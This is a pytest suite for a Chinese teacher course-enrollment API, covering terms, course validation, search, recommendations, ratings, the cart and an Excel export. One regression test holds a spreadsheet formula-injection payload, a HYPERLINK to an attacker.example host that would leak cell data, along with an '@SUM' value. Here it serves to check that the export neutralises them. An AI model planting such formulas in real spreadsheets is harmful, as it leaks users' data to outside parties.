"""Terms and catalogue against the real store: term rules, course access and validation, search
with the §2 filters, sorting, "same-subject teachers chose", recommendations, ratings, the cart."""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from enrollment.bootstrap import Container, build
from enrollment.entrypoints.api.app import create_app
from enrollment.settings import Settings
from jijiao_kit.clock import FixedClock
from jijiao_stack.pytest_plugin import api_client, bearer

OPENS = datetime(2026, 9, 1, tzinfo=UTC)
CLOSES = datetime(2026, 9, 20, tzinfo=UTC)
INSIDE = datetime(2026, 9, 10, 8, 0, tzinfo=UTC)
DISTRICT = "海珠区"
SCHOOL = "sch-c"
TERM_BODY = {
    "code": "2602",
    "year": 2026,
    "selection_opens_at": OPENS.isoformat(),
    "selection_closes_at": CLOSES.isoformat(),
    "study_starts_on": "2026-10-10",
    "study_ends_on": "2026-12-10",
    "payment_due_at": (CLOSES + timedelta(days=20)).isoformat(),
}


@dataclass
class Env:
    client: httpx.AsyncClient
    container: Container
    clock: FixedClock
    token: Callable[..., str]

    @property
    def city(self) -> dict[str, str]:
        return bearer(self.token("city_admin"))

    def teacher(self, ce: str) -> dict[str, str]:
        return bearer(self.token("teacher", ce_number=ce, school_id=SCHOOL, district=DISTRICT))


@pytest.fixture
async def env(settings_env: dict[str, Any], make_token: Callable[..., str]) -> AsyncIterator[Env]:
    clock = FixedClock(INSIDE)
    container = build(Settings(**settings_env, step_up_required=False), clock=clock)
    async with api_client(create_app(container)) as client:
        yield Env(client, container, clock, make_token)


async def add_teacher(container: Container, subject: str = "数学", stage: str = "junior") -> str:
    ce = f"T{uuid.uuid4().hex[:10]}"
    await container.teachers.collection.insert_one(
        {
            "_id": ce,
            "name": "罗老师",
            "id_number": uuid.uuid4().hex[:18],
            "school_id": SCHOOL,
            "school_name": "学校",
            "district": DISTRICT,
            "status": "active",
            "special_user": False,
            "subject": subject,
            "stage": stage,
            "outbox": {},
            "outbox_pending": 0,
        }
    )
    return ce


def course_body(code: str, **fields: Any) -> dict[str, Any]:
    return {
        "code": code,
        "name": f"课程{code}",
        "programme": "city",
        "hour_type": "professional",
        "hours": 24,
        "training_fee": "100",
        "material_fee": "0",
        "course_type": "remote",
        "payee": "广州市广播电视大学",
        "subject": "数学",
        "stage": "junior",
        "capacity": None,
        **fields,
    }


async def test_terms_are_created_by_the_city_with_valid_dates(env: Env) -> None:
    teacher = bearer(env.token("teacher", ce_number="X"))
    assert (await env.client.post("/v1/terms", headers=teacher, json=TERM_BODY)).status_code == 403
    bad = await env.client.post("/v1/terms", headers=env.city, json={**TERM_BODY, "code": "2502"})
    assert bad.status_code == 422 and bad.json()["code"] == "invalid_term_code"
    naive = await env.client.post(
        "/v1/terms", headers=env.city, json={**TERM_BODY, "selection_opens_at": "2026-09-01T00:00:00"}
    )
    assert naive.status_code == 422
    created = await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    assert created.status_code == 201 and created.json()["window_open"] is True
    assert created.json()["selection_opens_at"] == "2026-09-01T00:00:00Z"
    assert (await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)).json()["code"] == "term_exists"
    got = await env.client.get("/v1/terms/2602", headers=teacher)
    assert got.status_code == 200 and got.json()["seconds_until_close"] == int((CLOSES - INSIDE).total_seconds())
    assert (await env.client.get("/v1/terms/2699", headers=teacher)).json()["code"] == "term_not_found"
    term = await env.container.term_service.terms.get("2602")
    assert term is not None and term["outbox_pending"] == 1  # TermScheduled went in the same write


async def test_numbers_past_64_bit_integers_are_refused_not_a_500(env: Env) -> None:
    """A term year, a catalogue page and a course capacity reach the store as 64-bit integers: 10**20 was a
    500 (OverflowError in the driver); the year has the range of a term's, a capacity at most 10**6 places."""
    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    year = await env.client.get("/v1/terms", params={"year": 10**20}, headers=env.city)
    assert year.status_code == 422 and year.json()["code"] == "validation_failed", year.text
    assert [t["code"] for t in (await env.client.get("/v1/terms", params={"year": 2026}, headers=env.city)).json()] == [
        "2602"
    ]
    page = await env.client.get("/v1/terms/2602/courses", params={"page": 10**20}, headers=env.city)
    assert page.status_code == 422 and page.json()["code"] == "validation_failed", page.text
    last = await env.client.get("/v1/terms/2602/courses", params={"page": 10_000}, headers=env.city)
    assert last.status_code == 200 and last.json()["items"] == []
    huge = await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("H1", capacity=10**20))
    assert huge.status_code == 422 and huge.json()["code"] == "validation_failed", huge.text
    most = await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("H2", capacity=10**6))
    assert most.status_code == 201 and most.json()["capacity"] == 10**6


async def test_course_creation_access_and_validation(env: Env) -> None:
    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    district_admin = bearer(env.token("district_admin", district=DISTRICT))
    other_district = bearer(env.token("district_admin", district="白云区"))
    r = await env.client.post(
        "/v1/terms/2602/courses", headers=district_admin, json=course_body("D1", programme="district")
    )
    assert r.status_code == 201 and r.json()["district"] == DISTRICT
    r = await env.client.post(
        "/v1/terms/2602/courses",
        headers=other_district,
        json=course_body("D2", programme="district", district=DISTRICT),
    )
    assert r.status_code == 403
    assert (
        await env.client.post("/v1/terms/2602/courses", headers=district_admin, json=course_body("C9"))
    ).status_code == 403
    r = await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("C1", training_fee="12.345"))
    assert r.status_code == 422
    r = await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("C1", programme="ability"))
    assert r.status_code == 422 and r.json()["code"] == "ability_category_required"
    r = await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("C1", capacity=0))
    assert r.status_code == 422
    ok = await env.client.post(
        "/v1/terms/2602/courses", headers=env.city, json=course_body("C1", training_fee="88.8", capacity=30)
    )
    assert ok.status_code == 201 and ok.json()["training_fee"] == "88.80" and ok.json()["remaining"] == 30
    stored = await env.container.course_repository.by_code("2602", "C1")
    assert stored is not None and stored["training_fee_fen"] == 8880
    assert (await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("C1"))).json()[
        "code"
    ] == "course_exists"
    assert (
        await env.client.post("/v1/terms/2699/courses", headers=env.city, json=course_body("C2"))
    ).status_code == 404


async def test_search_filters_sorting_paging_same_subject_and_recommendations(env: Env) -> None:
    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    specs = [
        course_body("A1", hours=10, terminal="all"),
        course_body("A2", hours=30, terminal="pc", hour_type="public", subject=None),
        course_body("A3", hours=20, terminal="mobile", subject="语文", stage="primary"),
        course_body("A4", hours=40, hour_type="elective", course_type="face_to_face", capacity=10),
        course_body("A5", hours=16),
        course_body("A6", hours=12, subject="语文"),
        course_body("A7", hours=8),
    ]
    for index, spec in enumerate(specs):
        env.clock.set(INSIDE + timedelta(minutes=index))
        assert (await env.client.post("/v1/terms/2602/courses", headers=env.city, json=spec)).status_code == 201
    me = await add_teacher(env.container)
    headers = env.teacher(me)

    async def codes(**params: Any) -> list[str]:
        r = await env.client.get("/v1/terms/2602/courses", headers=headers, params=params)
        assert r.status_code == 200, r.text
        return [item["code"] for item in r.json()["items"]]

    assert await codes(hour_type="public") == ["A2"]
    assert await codes(hours_min=15, hours_max=30) == ["A2", "A3", "A5"]
    assert await codes(subject="语文") == ["A3", "A6"]
    assert await codes(stage="primary") == ["A3"]
    assert await codes(terminal="mobile") == ["A1", "A3"]
    assert await codes(course_type="face_to_face") == ["A4"]
    assert await codes(sort="newest", size=2) == ["A7", "A6"]
    page2 = await env.client.get("/v1/terms/2602/courses", headers=headers, params={"size": 3, "page": 2})
    assert [i["code"] for i in page2.json()["items"]] == ["A4", "A5", "A6"] and page2.json()["total"] == 7

    # Teachers of the same subject choose A5 twice and A1 once: most chosen first.
    for choice in (["A5", "A1"], ["A5"]):
        peer = await add_teacher(env.container)
        for code in choice:
            r = await env.client.post(
                "/v1/terms/2602/selections", headers=env.teacher(peer), json={"ce_number": peer, "course_code": code}
            )
            assert r.status_code == 201
    other = await add_teacher(env.container, subject="语文")
    await env.client.post(
        "/v1/terms/2602/selections", headers=env.teacher(other), json={"ce_number": other, "course_code": "A6"}
    )
    assert await codes(same_subject="true") == ["A5", "A1"]
    assert await codes(sort="popular", size=2) == ["A5", "A1"]

    # Ratings: only after selecting, once per teacher; best-rated sort.
    peer_ce = (await env.container.selection_repository.find_many({"course_code": "A1"}))[0]["ce_number"]
    r = await env.client.post("/v1/terms/2602/courses/A1/ratings", headers=env.teacher(peer_ce), json={"stars": 5})
    assert r.status_code == 200 and r.json()["rating_avg"] == 5
    again = await env.client.post("/v1/terms/2602/courses/A1/ratings", headers=env.teacher(peer_ce), json={"stars": 1})
    assert again.json()["code"] == "already_rated"
    assert (await env.client.post("/v1/terms/2602/courses/A2/ratings", headers=headers, json={"stars": 4})).json()[
        "code"
    ] == ("rating_not_selected")
    assert (await codes(sort="best_rated"))[0] == "A1"

    recommended = await env.client.get("/v1/terms/2602/recommendations", headers=headers)
    assert recommended.status_code == 200
    rec = [c["code"] for c in recommended.json()]
    # subject+stage matches first; among them the needed hour type (public, then professional),
    # then popularity; the other subject's courses last.
    assert rec == ["A5", "A1", "A7", "A4", "A2", "A6", "A3"]
    # A school admin of another school cannot ask for this teacher.
    stranger = bearer(env.token("school_admin", school_id="else", district="白云区"))
    assert (
        await env.client.get("/v1/terms/2602/recommendations", headers=stranger, params={"ce_number": me})
    ).status_code == 404


async def test_cart_and_checkout(env: Env) -> None:
    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    for spec in (course_body("K1"), course_body("K2", capacity=1)):
        await env.client.post("/v1/terms/2602/courses", headers=env.city, json=spec)
    me, rival = await add_teacher(env.container), await add_teacher(env.container)
    headers = env.teacher(me)
    base = f"/v1/terms/2602/teachers/{me}/cart"
    assert (await env.client.put(f"{base}/K1", headers=headers)).status_code == 200
    cart = (await env.client.put(f"{base}/K2", headers=headers)).json()["items"]
    assert [item["course_code"] for item in cart] == ["K1", "K2"]
    assert (await env.client.get(base, headers=env.teacher(rival))).status_code == 403
    await env.client.post(
        "/v1/terms/2602/selections", headers=env.teacher(rival), json={"ce_number": rival, "course_code": "K2"}
    )
    report = (await env.client.post(f"{base}/checkout", headers=headers)).json()
    assert report["accepted"] == 1 and [r["code"] for r in report["rows"]] == [None, "course_full"]
    left = (await env.client.get(base, headers=headers)).json()["items"]
    assert [item["course_code"] for item in left] == ["K2"]
    assert (await env.client.delete(f"{base}/K2", headers=headers)).status_code == 204
    assert (await env.client.get(base, headers=headers)).json()["items"] == []


async def test_course_list_download(env: Env) -> None:
    import io

    from openpyxl import load_workbook

    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    await env.client.post(
        "/v1/terms/2602/courses", headers=env.city, json=course_body("L1", capacity=5, training_fee="150")
    )
    await env.client.post("/v1/terms/2602/courses", headers=env.city, json=course_body("L2", subject=None, stage=None))
    me = await add_teacher(env.container)
    await env.client.post(
        "/v1/terms/2602/selections", headers=env.teacher(me), json={"ce_number": me, "course_code": "L1"}
    )
    response = await env.client.get("/v1/terms/2602/courses.xlsx", headers=env.teacher(me))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][:3] == ["期数", "课程编号", "课程名称"] and rows[0][-1] == "已选人数"
    assert rows[1][1:2] + rows[1][4:7] + rows[1][-2:] == ["L1", "专业科目", 24, 150, 5, 1]
    assert rows[2][10:13] == ["通用", "不限", "不限"]


async def test_course_list_download_stores_formula_like_names_as_text(env: Env) -> None:
    """Issue 12 item 5: a course named like a formula comes back from courses.xlsx as text."""
    import io

    from openpyxl import load_workbook

    hyperlink = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'
    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    created = await env.client.post(
        "/v1/terms/2602/courses", headers=env.city, json=course_body("F1", name=hyperlink, payee="@SUM(A1)")
    )
    assert created.status_code == 201, created.text
    me = await add_teacher(env.container)
    response = await env.client.get("/v1/terms/2602/courses.xlsx", headers=env.teacher(me))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    name, payee = sheet.cell(row=2, column=3), sheet.cell(row=2, column=9)
    assert (name.value, name.data_type) == (hyperlink, "s")
    assert (payee.value, payee.data_type) == ("@SUM(A1)", "s")
    assert name.quotePrefix and payee.quotePrefix


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("selection_opens_at", "0001-01-01T00:00:00+01:00"),
        ("payment_due_at", "9999-12-31T23:59:59-14:00"),
        ("study_ends_on", "9999-12-31"),
    ],
)
async def test_dates_at_the_ends_of_the_calendar_are_a_422_not_a_500(env: Env, field: str, value: str) -> None:
    """Issue 12 item 8: converting these to UTC overflowed (a 500)."""
    created = await env.client.post("/v1/terms", headers=env.city, json={**TERM_BODY, field: value})
    assert created.status_code == 422, created.text
    assert created.json()["code"] == "validation_failed"
    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
    changed = await env.client.patch("/v1/terms/2602", headers=env.city, json={field: value})
    assert changed.status_code == 422, changed.text
